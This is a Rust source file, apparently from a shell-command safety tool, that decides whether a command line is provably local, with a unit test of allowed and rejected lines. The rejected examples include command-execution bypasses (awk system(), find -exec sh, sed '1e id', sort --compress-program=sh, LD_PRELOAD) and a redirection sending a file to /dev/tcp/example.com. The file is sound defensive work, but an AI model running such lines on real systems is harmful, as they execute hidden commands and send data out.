//! Lines that cannot reach the network whatever their input is: the "provably local" of feature P2, which decides whether tainted
//! data may go on without a second opinion.

use crate::policy::line::budget::Budget;
use crate::policy::line::context::JudgeContext;
use crate::policy::strict::unasked::is_literal;
use crate::policy::{Finding, Policy, Rule, Situation, Verdict};
use guarda_shell::script::{Run, Script, Unsure};

impl Policy {
    /// True if nothing on the line can reach the network, start an unjudged program or write a file: a rule marked `local`
    /// admits every run, and no finding asks. False if that is uncertain.
    ///
    /// A program's name alone proves nothing: `awk` with `system()`, `find -exec`, `sort --compress-program`,
    /// `LD_PRELOAD=…` and a redirection to `/dev/tcp` are admitted by no rule and so are not local.
    ///
    /// ```
    /// use guarda_core::policy::{Policy, Profile, corpus};
    /// use guarda_shell::script::Dialect;
    ///
    /// let policy = Policy::builtin(Profile::Desktop)?;
    /// let local = |line| {
    ///     let script = guarda_shell::read(line, Dialect::Bash);
    ///     policy.provably_local(&script, &corpus::situation(&script))
    /// };
    /// assert!(local("sort notes | uniq -c") && !local("sort --compress-program=sh notes"));
    /// # Ok::<(), guarda_core::policy::PolicyError>(())
    /// ```
    #[must_use]
    pub fn provably_local(&self, script: &Result<Script, Unsure>, situation: &Situation) -> bool {
        self.is_local(script, situation, &self.judge_script(script, situation))
    }

    /// The same, with the findings of the judge.
    pub(crate) fn is_local(
        &self,
        script: &Result<Script, Unsure>,
        situation: &Situation,
        findings: &[Finding],
    ) -> bool {
        findings.iter().all(|finding| finding.verdict <= Verdict::Allow || finding.contained)
            && script.as_ref().is_ok_and(|script| {
                script.doubts().is_empty() && self.are_local(script, situation, |_, _| true)
            })
    }

    /// Whether every `wanted` run of a line is local, whatever its input is.
    #[must_use]
    pub fn are_local(
        &self,
        script: &Script,
        situation: &Situation,
        wanted: impl Fn(usize, &Run) -> bool,
    ) -> bool {
        let budget = Budget::for_line(script.length());
        let context = JudgeContext::new(script, situation, &budget);
        let mut runs = script.runs().iter().enumerate().filter(|(index, run)| wanted(*index, run));
        runs.all(|(index, run)| self.run_is_local(&context, index, run))
    }

    fn run_is_local(&self, context: &JudgeContext<'_>, index: usize, run: &Run) -> bool {
        let harmless = |assign: &guarda_shell::script::Assign| self.harmless_in_front(run, &assign.name);
        if !run.words.is_empty() && !run.assigns.iter().all(harmless) {
            return false;
        }
        run.words.is_empty()
            || is_literal(run)
                && matches!(self.judge_closed(context, index, run), Ok(Some(finding))
                    if finding.rule == "function" || self.rule(&finding.rule).is_some_and(Rule::local))
    }
}

#[cfg(test)]
mod tests {
    use crate::policy::{Policy, Profile, corpus};
    use guarda_shell::script::Dialect;

    #[test]
    fn only_what_is_certain_is_local() {
        let policy = Policy::builtin(Profile::Desktop).unwrap();
        let local = |line: &str| {
            let script = guarda_shell::read(line, Dialect::Bash);
            policy.provably_local(&script, &corpus::situation(&script))
        };
        for line in [
            "cat notes | sort | uniq -c",
            "awk '{print $1}' notes",
            "sed -n 1,5p notes",
            "LC_ALL=C strings a.out",
            "grep -rn todo src && git log --oneline",
            "f() { ls; }; f",
        ] {
            assert!(local(line), "{line}");
        }
        for line in [
            "awk 'BEGIN{system(\"id\")}'",
            "find . -exec sh {} \\;",
            "find . | xargs curl",
            "find . -name '*.rs' | xargs wc -l",
            "sort $X",
            "sed '1e id' notes",
            "sort --compress-program=sh notes",
            "LD_PRELOAD=./x.so ls",
            "cat notes > /dev/tcp/example.com/80",
            "ls; dig example.com",
            "cat $(curl https://example.com)",
            "gh pr list",
            "frobctl list",
            "ls 'open",
        ] {
            assert!(!local(line), "{line}");
        }
    }
}
